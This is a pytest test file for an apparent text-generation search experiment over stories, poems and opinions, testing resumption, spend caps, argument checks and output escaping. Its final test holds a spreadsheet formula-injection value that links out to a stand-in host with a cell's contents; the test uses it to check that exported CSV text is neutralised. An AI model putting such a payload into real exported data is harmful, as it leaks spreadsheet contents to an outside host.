"""The experiments on texts, run with tiny settings the way a user would."""

from __future__ import annotations

import csv
import io
import json
import re
from contextlib import redirect_stdout
from pathlib import Path
from typing import get_args

import numpy as np
import pytest

from domains.opinions import OPINIONS
from domains.poetry.poetry import GENRES, TONES
from domains.stories import MODEL, STORIES
from experiments.benchmarks import language as benchmark_language
from experiments.writing import axes as discover_axes
from experiments.writing import qdaif as qdaif_writing
from experiments.writing import report as writing_report
from experiments.writing import table as qdaif_table
from experiments.writing.arguments import Method, writing_of
from qdfeedback import tables
from qdfeedback.arguments import arguments_of, resumed
from qdfeedback.commands import run_main
from qdfeedback.encoders.attributes import Attribute
from qdfeedback.history import History
from qdfeedback.learning.proposed import choose
from qdfeedback.models.ledger import Ledger, SpendCapError
from qdfeedback.run_settings import read_settings, write_settings
from qdfeedback.stopping import InVain
from qdfeedback.text_map import write_texts
from qdfeedback.types import Elites
from qdfeedback.writing import begun_from_nothing, bins_of
from tests.models.faulty import Faulty, asked, serving
from tests.stopping import killed_on_its_way, stopped_on_its_way

TINY = ("--evaluations", "23", "--batch-size", "10", "--seeded", "10")
METHODS = tuple(method for method in get_args(Method) if method != "asked")  # which needs a writer
NAMES = ("quality", "genre", "ending")


@pytest.fixture(scope="module")
def written(tmp_path_factory) -> Path:
    """A finished run of lmx-near; what it said lies beside it."""
    run = tmp_path_factory.mktemp("written") / "r"
    with redirect_stdout(io.StringIO()) as said:
        write(run)
    run.with_name("said.txt").write_text(said.getvalue())
    return run


@pytest.fixture(autouse=True)
def _pictures_where_they_are_looked_at(request, monkeypatch) -> None:
    """They take longer than the searches here; `written` is made before this."""
    if request.function is not test_every_method_on_stories:
        monkeypatch.setattr(writing_report, "_pictures", lambda *given: None)


def write(run: Path, *arguments: str) -> dict:
    qdaif_writing.main([*TINY, "--run", str(run), *arguments])
    return summary_of(run)


def summary_of(run: Path) -> dict:
    return json.loads((run / "summary.json").read_text())


def to(server: Faulty) -> tuple[str, ...]:
    """The arguments that name a server, asked once for each rating."""
    return ("--writer", f"m@{server.url}", "--samples", "1")


def rows(run: Path, names=NAMES) -> dict[str, list]:
    history = History(run / "history.arrows", names)
    return {name: list(history.sample(name)) for name in ("solution", "origin", "error", "features")}


@pytest.mark.xdist_group("written")
def test_lmx_near_on_stories(written: Path) -> None:
    check_run(written, "lmx-near", 23, written.with_name("said.txt").read_text())


@pytest.mark.parametrize(
    ("method", "candidates"),
    [pytest.param(one, 63, marks=pytest.mark.slow) for one in METHODS],
)
def test_every_method_on_stories(method: str, candidates: int, tmp_path: Path, capsys) -> None:
    write(tmp_path / "r", "--method", method, "--evaluations", str(candidates))
    check_run(tmp_path / "r", method, candidates, capsys.readouterr().out)


def check_run(run: Path, method: str, candidates: int, said: str) -> None:
    summary = summary_of(run)
    assert summary["evaluations"] == candidates
    assert 3 < summary["elites"] <= summary["cells"] == 100
    assert 0 < summary["qd_score"] <= summary["elites"]
    assert 0 < summary["true_qd_score"] <= summary["true_qd_score_all"] + 1e-9
    assert summary["judge_agreement"] > 0.9
    assert summary["requests"] >= 7 * (candidates - 3)
    for name in ("settings.json", "history.arrows", "replies.db", "archive.npz", "archive.png", "curves.csv"):
        assert (run / name).stat().st_size > 0
    with (run / "elites.csv").open() as file:
        table = list(csv.DictReader(file))
    assert len(table) == summary["elites"]
    page = (run / "texts.html").read_text()
    assert page.count("<details") == summary["elites"]
    assert "QD score" in said
    origins = {str(one) for one in rows(run)["origin"]}
    assert origins == {"initial", method} | ({"few-shot"} if method.startswith("lmx") else set())


@pytest.mark.xdist_group("written")
def test_the_search_goes_on_from_its_own_texts(written: Path) -> None:
    assert [str(one) for one in rows(written)["origin"][3::10]] == ["few-shot", "lmx-near"]


@pytest.mark.slow
def test_one_axis_of_two(tmp_path: Path) -> None:
    write(tmp_path / "r", "--axes", "ending")
    found = rows(tmp_path / "r", ("quality", "ending"))
    assert [str(one) for one in found["origin"][3::10]] == ["few-shot", "lmx-near"]
    assert len((tmp_path / "r" / "texts.html").read_text().split("<details")) > 4


@pytest.mark.slow
def test_a_zero_shot_start_needs_no_seeds(tmp_path: Path) -> None:
    arguments = ("--domain", "opinions", "--temperature", "0.7", "--evaluations", "26")
    summary = write(tmp_path / "r", "--begin", "zero-shot", *arguments)
    assert summary["evaluations"] == 26
    found = rows(tmp_path / "r", ("quality", "sentiment"))
    assert [str(one) for one in found["origin"][5::10]] == ["initial", "few-shot", "lmx-near"]
    assert set(found["solution"][:10]) & set(OPINIONS.seeds) == set()


@pytest.mark.xdist_group("written")
@pytest.mark.parametrize(
    ("method", "candidates"),
    [
        ("lmx-near", 23),
        *(pytest.param(one, 63, marks=pytest.mark.slow) for one in ("lmx-near", "lmx-replace", "novelty")),
    ],
)
def test_killed_and_resumed_it_ends_as_one_that_was_not(
    method: str, candidates: int, written: Path, tmp_path: Path
) -> None:
    """By SIGKILL in the middle, or else stopped; no reply is computed twice, and every text and score is the same."""
    arguments = ("--method", method, "--evaluations", str(candidates))
    if candidates > 23:
        killed_on_its_way("experiments.writing.qdaif", (*TINY, *arguments), tmp_path / "killed")
    else:
        with stopped_on_its_way():
            write(tmp_path / "killed", *arguments)
    before = Ledger(tmp_path / "killed" / "replies.db").totals()
    qdaif_writing.main(["--run", str(tmp_path / "killed"), "--resume"])
    resumed = summary_of(tmp_path / "killed")
    run = written if candidates == 23 else tmp_path / "whole"
    whole = summary_of(run) if run.exists() else write(run, *arguments)
    expected, found = rows(run), rows(tmp_path / "killed")
    for column in ("solution", "error"):
        assert found[column] == expected[column]
    np.testing.assert_allclose(found["features"], expected["features"], atol=1e-5)
    assert 0 < before.requests < resumed["requests"]
    assert resumed["requests"] == whole["requests"]
    assert (resumed["possibly_paid"], resumed["failed_requests"]) == (0, 0)
    assert expected["origin"].count(method) >= 10 + (candidates - 23)


# --- on a server


def poet(body: dict) -> str:
    prompt = asked(body)
    number = int(body.get("seed", 0)) + len(prompt)
    if "Answer with a number" in prompt:
        return str(1 + number % 10)
    if "Answer with one of" in prompt:
        answers = prompt.rsplit("one of: ", 1)[1].split(".")[0].split(", ")
        return answers[sum(map(ord, prompt)) % 5] if len(answers) == 5 else answers[0]
    return f"A poem with {number} lines,\nand {number} words\n<b>& no rhyme</b>"


@pytest.fixture
def server():
    with serving(Faulty(text=poet, ignores=("logprobs", "response_format"))) as faulty:
        yield faulty


@pytest.fixture
def prices(tmp_path: Path) -> Path:
    """A table by which each token costs one."""
    (tmp_path / "prices.toml").write_text("[m]\nprompt = 1000000\ncompletion = 1000000\n")
    return tmp_path / "prices.toml"


def test_poems_by_genre_and_tone(server: Faulty, tmp_path: Path) -> None:
    arguments = ("--domain", "poetry", "--method", "guided", "--writer", f"m@{server.url}", "--evaluations", "14")
    summary = write(tmp_path / "r", *arguments)
    assert (summary["cells"], summary["highest"]) == (25, 10.0)
    assert summary["elites"] >= 3
    assert summary["qd_score"] <= 250
    page = (tmp_path / "r" / "texts.html").read_text()
    assert "<b>& no rhyme" not in page
    assert "&lt;b&gt;&amp; no rhyme" in page
    assert all(word in page for word in (*GENRES, *TONES))
    wishes = {found for one in server.seen for found in re.findall(r"so that it is (\w+) and (\w+)\.", asked(one))}
    assert {genre for genre, _ in wishes} <= set(GENRES)
    assert len(wishes) > 5


@pytest.mark.slow
def test_a_pool_and_the_papers_baselines_work_on_categories(server: Faulty, tmp_path: Path) -> None:
    for method in ("novelty", "asked", "targeted", "seed-rewrite"):
        arguments = ("--domain", "poetry", "--method", method, "--writer", f"m@{server.url}", "--evaluations", "12")
        assert write(tmp_path / method, *arguments, "--batch-size", "1")["evaluations"] == 12
    asked_ = "".join(asked(one) for one in server.seen)
    assert "Write a poem of outstanding quality.\n" in asked_
    assert re.search(r"Write a poem of outstanding quality\. It is \w+ and \w+\.\n", asked_)


def test_a_writer_that_never_says_anything_ends_the_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(qdaif_writing, "InVain", lambda _: InVain(10))

    def silent(body: dict) -> str:
        return poet(body) if "Answer with" in asked(body) else ""

    arguments = ("--domain", "poetry", "--method", "rewrite", "--evaluations", "40")
    in_vain = pytest.raises(RuntimeError, match="10 candidates in a row without a score; the last: empty")
    with serving(Faulty(text=silent, ignores=("logprobs", "response_format"))) as faulty, in_vain:
        write(tmp_path / "r", *arguments, *to(faulty))


POEMS = ("--domain", "poetry", "--method", "asked", "--evaluations", "12")
MUTE = ("logprobs", "response_format")  # that the server ignores


def test_what_a_server_does_not_take_is_said_and_stands_in_the_settings(tmp_path: Path) -> None:
    with serving(Faulty(text=poet, ignores=MUTE, lacks=("stop", "seed"))) as faulty:
        with pytest.warns(UserWarning, match=r"does not take stop \(HTTP 422: unknown: \['stop', 'seed'\]\)"):
            write(tmp_path / "r", *POEMS, *to(faulty))
        (lacking,) = read_settings(tmp_path / "r")["not_kept"].values()
        assert [one.split(" ")[0] for one in lacking] == ["stop", "seed"]
        known = arguments_of(qdaif_writing.Args, tmp_path / "r")
        assert qdaif_writing.Args(**known).domain == "poetry"  # what was noted is no argument


def test_a_temperature_that_a_server_does_not_keep_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    faulty = Faulty(text=poet, ignores=MUTE, lacks=("temperature",))
    no_draw = pytest.raises(
        ValueError, match=r"cannot draw at temperature 0\.3 .* \(HTTP 422: unknown: \['temperature'"
    )
    with serving(faulty), pytest.warns(UserWarning, match="does not take temperature"), no_draw:
        write(tmp_path / "r", *POEMS, "--temperature", "0.3", *to(faulty))
    assert all("Is water wet" in asked(one) for one in faulty.seen)


@pytest.mark.parametrize(
    ("finish", "reason"), [("sensitive", "no reply: finish_reason 'sensitive'"), ("content_filter", "content filter")]
)
def test_a_run_that_fails_for_a_reason_of_the_servers_stops_and_names_it(finish, reason, tmp_path: Path) -> None:
    def writes(body: dict) -> bool:
        return "Write a poem" in asked(body)

    bad = Faulty(text=poet, ignores=MUTE, ends=lambda body: finish if writes(body) and body["seed"] % 4 else "stop")
    most = pytest.raises(RuntimeError, match=rf"\d+ of \d+ texts came to nothing for one reason, m at .*: {reason}")
    with serving(bad), most:
        write(tmp_path / "r", "--domain", "poetry", "--method", "asked", "--evaluations", "60", *to(bad))


@pytest.mark.xdist_group("written")
def test_a_command_names_the_flag_that_gives_room_to_think(written: Path) -> None:
    reason = "empty: thinking used up the room (thoughts: 0 tokens)"
    with pytest.raises(SystemExit, match=r"error: .*tokens\); --thoughts gives a model tokens to think in"):
        run_main(lambda: (_ for _ in ()).throw(RuntimeError(reason)))
    summary = json.loads((written / "summary.json").read_text()) | {"failed": {reason: 3}}
    assert "(thoughts: 0 tokens) most of all); --thoughts gives" in writing_report.closing_lines(written, summary)
    assert "--thoughts" not in writing_report.closing_lines(written, summary | {"failed": {"empty": 3}})


def test_axes_of_the_users_own_are_escaped_and_kept(server: Faulty, tmp_path: Path) -> None:
    file = tmp_path / "attributes.json"
    axes = [{"name": f"a{i}", "question": "What?", "answers": ["<b>one", "two & three"]} for i in range(2)]
    file.write_text(json.dumps(axes))
    arguments = ("--attributes", str(file), *to(server), "--method", "asked", "--evaluations", "15")
    summary = write(tmp_path / "r", *arguments)
    assert "true_qd_score" not in summary  # nobody knows it
    page = (tmp_path / "r" / "texts.html").read_text()
    assert "<b>one" not in page
    assert "clearly &lt;b&gt;one" in page
    assert json.loads((tmp_path / "r" / "attributes.json").read_text()) == axes


@pytest.mark.parametrize("content", ['[{"name": "a", "question": "b"}]', '[{"nme": "a", "answers": ["x", "y"]}]'])
def test_a_file_that_holds_no_attributes_is_named(content: str, tmp_path: Path) -> None:
    file = tmp_path / "attributes.json"
    file.write_text(content)
    with pytest.raises(ValueError, match=r"attributes\.json must list objects with name, question and answers"):
        write(tmp_path / "r", "--attributes", str(file))


def test_nobody_knows_the_truth_about_other_peoples_stories(server: Faulty, tmp_path: Path) -> None:
    summary = write(tmp_path / "r", *to(server), "--method", "asked", "--evaluations", "15")
    assert "true_qd_score" not in summary
    assert summary["readable"] < 0.5


def test_a_model_that_cannot_be_opened_leaves_no_folder_in_the_way(server: Faulty, tmp_path: Path) -> None:
    arguments = ("--method", "asked", "--evaluations", "12", "--domain", "poetry")
    with pytest.raises(OSError, match="nowhere"):
        write(tmp_path / "r", *arguments, "--writer", str(tmp_path / "nowhere"))
    assert not list(tmp_path.glob("r/*"))
    assert write(tmp_path / "r", *arguments, *to(server))["evaluations"] == 12


def test_why_a_judge_says_nothing_is_shown(tmp_path: Path) -> None:
    def mumble(body: dict) -> str:
        prompt = asked(body)
        return "hm" if "Answer with one of" in prompt and "A poem with 7" in prompt else poet(body)

    def silent(body: dict) -> str:
        return "hm" if "Answer with" in asked(body) else poet(body)

    arguments = ("--domain", "poetry", "--method", "asked", "--evaluations", "12")
    with serving(Faulty(text=mumble, ignores=("logprobs", "response_format"))) as faulty:
        summary = write(tmp_path / "r", *arguments, *to(faulty))
    assert set(summary["unmeasured"]) <= {"not one of the answers", "genre: unclear answers"}
    why = pytest.raises(RuntimeError, match=r"the judge, \d+ times: not one of the answers")
    with serving(Faulty(text=silent, ignores=("logprobs", "response_format"))) as faulty, why:
        write(tmp_path / "s", *arguments, *to(faulty))


def test_a_first_text_that_no_judge_can_place_ends_the_run_with_the_reason(tmp_path: Path) -> None:
    """Not at every resume anew, and not without saying why."""

    def mumble(body: dict) -> str:
        return "hm" if "Answer with one of" in asked(body) else poet(body)

    why = pytest.raises(RuntimeError, match=r"none of the first candidates has a place.*not one of the answers")
    with serving(Faulty(text=mumble, ignores=("logprobs", "response_format"))) as faulty, why:
        write(tmp_path / "r", "--domain", "poetry", "--method", "guided", "--evaluations", "12", *to(faulty))
    assert not list((tmp_path / "r").glob("checkpoints/*"))


def test_what_a_run_that_goes_on_may_do_otherwise(server: Faulty, tmp_path: Path) -> None:
    arguments = ("--domain", "poetry", "--method", "asked", "--evaluations", "12")
    write(tmp_path / "r", *arguments, *to(server))
    resume = ["--run", str(tmp_path / "r"), "--resume"]
    with pytest.raises(ValueError, match="was begun with --evaluations 12, which cannot change"):
        qdaif_writing.main([*resume, "--evaluations", "40"])
    (tmp_path / "r" / "summary.json").unlink()
    qdaif_writing.main([*resume, "--timeout", "60", "--concurrency", "2"])
    (tmp_path / "r" / "summary.json").unlink()
    settings = read_settings(tmp_path / "r")
    assert {"A poem"} <= {text[:6] for text in map(str, rows(tmp_path / "r", ("quality", "genre", "tone"))["solution"])}
    settings["used"]["sampling"]["temperature"] = 0.5
    write_settings(tmp_path / "r", settings)
    with pytest.raises(ValueError, match=r"was begun with another sampling: .*0\.5"):
        qdaif_writing.main(resume)


def test_prices_that_are_not_there_leave_no_folder_in_the_way(tmp_path: Path) -> None:
    with pytest.raises(OSError, match="nowhere"):
        write(tmp_path / "r", "--prices", str(tmp_path / "nowhere.toml"), "--cap", "5")
    assert not (tmp_path / "r").exists()


def test_a_resumed_run_has_the_first_texts_of_its_history(server: Faulty, tmp_path: Path) -> None:
    arguments = ("--domain", "poetry", "--method", "lmx-near", "--begin", "zero-shot", "--evaluations", "12")
    write(tmp_path / "r", *arguments, *to(server))
    args = resumed(qdaif_writing.Args(run=tmp_path / "r", resume=True))
    history = History(tmp_path / "r" / "history.arrows", ("quality", "genre", "tone"))
    again = begun_from_nothing(writing_of(args), None, np.arange(10), history)  # nobody is asked
    assert again.seeds == tuple(str(text) for text in history.sample("solution")[:10])


def test_a_cap_that_cannot_hold_for_all_seeds_is_refused(server: Faulty, tmp_path: Path) -> None:
    prices = tmp_path / "prices.toml"
    prices.write_text("[m]\nprompt = 1\ncompletion = 1\n")
    run = ("--run", str(tmp_path / "r"), "--seed", "0", "1", "--workers", "1")
    arguments = ("--domain", "poetry", "--method", "asked", *to(server), "--evaluations", "12")
    qdaif_writing.main([*run, *arguments])
    with pytest.raises(ValueError, match="keep their replies apart"):
        qdaif_writing.main([*run, "--resume", "--cap", "5", "--prices", str(prices)])


def test_the_cap_stops_a_run_and_a_higher_one_goes_on(server: Faulty, prices: Path, tmp_path: Path) -> None:
    common = ("--domain", "poetry", "--method", "rewrite", *to(server), "--evaluations", "13")
    paid = ("--prices", str(prices), "--concurrency", "1")
    with pytest.raises(SpendCapError, match=r"stopped by --cap after \d+ texts"):
        write(tmp_path / "r", *common, *paid, "--cap", "2200")
    stopped = Ledger(tmp_path / "r" / "replies.db").totals()
    assert 0 < stopped.paid <= 2200
    seen = len(server.seen)
    with pytest.raises(SpendCapError):  # prices and cap are remembered
        qdaif_writing.main(["--run", str(tmp_path / "r"), "--resume"])
    assert len(server.seen) == seen
    qdaif_writing.main(["--run", str(tmp_path / "r"), "--resume", "--cap", "1000000"])
    summary = summary_of(tmp_path / "r")
    assert summary["evaluations"] == 13
    assert read_settings(tmp_path / "r")["cap"] == 1000000  # it counts the next time too
    everything = Ledger(tmp_path / "r" / "replies.db").totals()
    assert everything.requests + everything.failures == len(server.seen)  # none twice


def test_a_cap_that_ends_the_seeds_judging_is_a_cap(server: Faulty, prices: Path, tmp_path: Path) -> None:
    spend = ("--prices", str(prices), "--cap", "1700")
    with pytest.raises(SpendCapError, match="raise the cap and resume"):
        write(tmp_path / "r", "--domain", "poetry", "--method", "rewrite", "--writer", f"m@{server.url}", *spend)
    assert not list((tmp_path / "r").glob("checkpoints/*"))


def test_seeds_share_a_cap_and_are_resumed_together(server: Faulty, prices: Path, tmp_path: Path) -> None:
    common = ("--domain", "poetry", "--method", "rewrite", *to(server), "--evaluations", "21")
    run = ("--run", str(tmp_path / "r"), "--seed", "0", "1", "--workers", "1")
    with pytest.raises(SpendCapError):
        qdaif_writing.main([*common, *run, "--prices", str(prices), "--cap", "2200"])
    assert Ledger(tmp_path / "r" / "replies.db").totals().paid <= 2200
    qdaif_writing.main([*run, "--resume", "--cap", "1000000"])
    summaries = [summary_of(tmp_path / "r" / f"seed-{seed}") for seed in (0, 1)]
    assert [one["method"] for one in summaries] == ["rewrite", "rewrite"]  # also of the one that was not begun


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (("--domain", "poetry"), "--writer: poems need a model"),
        (("--method", "asked"), "name a --writer"),
        (("--writer", "m@http://me:secret@host/v1"), "put the key into --key-variable"),
        (("--samples", "0"), "--samples must be at least 1, got 0"),
        (("--temperature", "-1"), "--temperature must be at least 0, got -1.0"),
        (("--axes", "colour"), "--axes of stories are genre, ending; got 'colour'"),
        (("--cap", "3"), "--cap needs --prices"),
        (("--evaluations", "3"), "--evaluations must be above 10"),
        (("--axes", "genre", "genre"), "--axes: one or two of"),
        (
            ("--domain", "poetry", "--writer", "m@http://x/v1", "--method", "directional"),
            "categories have no direction",
        ),
    ],
)
def test_what_cannot_work_is_said_before_anything_is_spent(arguments, message: str, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=re.escape(message)):
        write(tmp_path / "r", *arguments)
    assert not (tmp_path / "r").exists()


# --- what is made of runs


def another(run: Path, as_: Path, **changed: object) -> None:
    """A run as if it had been run with other settings."""
    as_.mkdir(parents=True)
    settings, summary = read_settings(run), summary_of(run)
    write_settings(as_, settings | {name: value for name, value in changed.items() if name in settings})
    (as_ / "summary.json").write_text(json.dumps(summary | changed))


@pytest.mark.xdist_group("written")
def test_the_table_has_intervals_and_the_paper_beside_it(written: Path, tmp_path: Path) -> None:
    for seed in range(3):
        for method, score in (("lmx-near", 20.0), ("random-search", 10.0)):
            more = {"qd_score": score + seed, "true_qd_score": score - seed}
            another(written, tmp_path / method / f"seed-{seed}", method=method, seed=seed, **more)
    qdaif_table.main([str(tmp_path), "--out", str(tmp_path / "table")])
    lines = (tmp_path / "table" / "table.md").read_text().splitlines()
    assert lines[2].startswith("| stories: genre, ending | lmx-near | 3 | ")
    assert "70.84 [68.61, 73.02]" in lines[2]
    assert "| 21.00 [20.00, 22.00] | 19.00 [18.00, 20.00] |" in lines[2]
    assert lines[3].startswith("| stories: genre, ending | random-search | 3 | 11.00 [")
    assert "| +10.00 [+7.73, +12.27] | +10.00 [+7.73, +12.27] |" in lines[3]
    assert (tmp_path / "table" / "table.png").stat().st_size > 10_000
    for method, score in (("lmx-near", 5.0), ("quality-only", 9.0)):  # compared with their own kind
        for seed in range(3):
            more = {"qd_score": score + seed, "true_qd_score": score - seed, "begin": "zero-shot"}
            another(written, tmp_path / "zero" / method / f"seed-{seed}", method=method, seed=seed, **more)
    qdaif_table.main([str(tmp_path / "lmx-near"), str(tmp_path / "zero"), "--out", str(tmp_path / "zeros")])
    assert "| -4.00 [" in (tmp_path / "zeros" / "table.md").read_text().splitlines()[4]
    another(written, tmp_path / "again")
    with pytest.raises(ValueError, match="the same seed counts twice"):
        qdaif_table.main([str(tmp_path), "--out", str(tmp_path / "table")])
    another(written, tmp_path / "other", method="asked", batch_size=20)
    with pytest.raises(ValueError, match="differs in batch_size from other runs of stories: genre, ending"):
        qdaif_table.main([str(tmp_path / "random-search"), str(tmp_path / "other")])
    with pytest.raises(ValueError, match="no finished run"):
        qdaif_table.main([str(tmp_path / "nowhere")])


def test_bootstrap_intervals_hold_the_mean() -> None:
    mean, low, high = tables.bootstrap([1.0, 2.0, 3.0, 4.0, 5.0])
    assert low < mean == 3.0 < high
    assert (low, high) == (pytest.approx(1.8, abs=0.21), pytest.approx(4.2, abs=0.21))
    assert np.isnan(tables.bootstrap([1.0])[1])
    ahead = tables.lead([3.0, 3.1, 2.9], [1.0, 1.1, 0.9])
    assert ahead[1] > 1.7


@pytest.mark.slow
def test_axes_are_proposed_and_chosen(tmp_path: Path, capsys) -> None:
    discover_axes.main(["--run", str(tmp_path / "axes"), "--count", "16", "--asks", "1", "--simulated", "200"])
    said = capsys.readouterr().out
    kept = json.loads((tmp_path / "axes" / "attributes.json").read_text())
    questions = {one["question"] for one in kept}
    assert {"Which genre is this story closer to?"} <= questions
    assert "| yes |" in said
    args = qdaif_writing.Args(attributes=tmp_path / "axes" / "attributes.json", axes=(kept[0]["name"],))
    assert writing_of(args).axes[0].question == kept[0]["question"]


def test_a_question_that_repeats_or_disagrees_is_left_out(rng: np.random.Generator) -> None:
    values = rng.random((300, 1))
    features = np.column_stack([values, 1 - values, rng.random(300), np.full(300, 0.5), rng.random(300)])
    attributes = [Attribute(f"a{i}", f"q{i}?") for i in range(5)]
    rows_ = np.array([rng.choice(300, 3, replace=False) for _ in range(400)])
    near = np.abs(values[rows_[:, 0], 0] - values[rows_[:, 1], 0]) < np.abs(
        values[rows_[:, 0], 0] - values[rows_[:, 2], 0]
    )
    triplets = np.where(near[:, None], rows_, rows_[:, [0, 2, 1]])
    found = choose(attributes, features, triplets, least_spread=0.5, most_alike=0.7)
    kept = {one.attribute.name for one in found if one.kept}
    assert len(kept & {"a0", "a1"}) == 1  # each repeats the other
    assert kept <= {"a0", "a1"}  # the others say nothing about what people see
    without = choose(attributes, features, triplets[:0], least_spread=0.5, most_alike=0.7)
    assert {one.attribute.name for one in without if one.kept} >= {"a2", "a4"}
    assert "a3" not in {one.attribute.name for one in without if one.kept}  # always the same answer


@pytest.mark.slow
def test_the_benchmark_compares_like_with_like(tmp_path: Path, capsys) -> None:
    benchmark_language.main(
        ["--texts", "6", "--rounds", "1", "--tokens", "8", "--out", str(tmp_path / "figures.json"), "--device", "cpu"]
    )
    figures = json.loads((tmp_path / "figures.json").read_text())
    assert figures["choose_largest_difference"] < 1e-4
    assert figures["parameters"] < 5e6
    assert "times faster" in capsys.readouterr().out
    assert MODEL.exists()


def test_texts_in_the_table_of_elites_are_no_formulas_and_numbers_stay_numbers(tmp_path: Path) -> None:
    bins = bins_of(STORIES)
    texts = np.array(['=HYPERLINK("http://x.example/?"&A1)', "+1-1", "@SUM(1)", "A plain one."])
    measures = np.zeros((4, len(bins.dims))) + np.arange(4)[:, None]
    found = Elites(np.arange(4), texts, np.array([-0.25, 1, 1, 1]), measures)
    write_texts(tmp_path, STORIES, found)
    with (tmp_path / "elites.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["text"] for row in rows] == [f"'{text}" for text in texts[:3]] + ["A plain one."]
    assert rows[0]["quality"] == "-0.25"
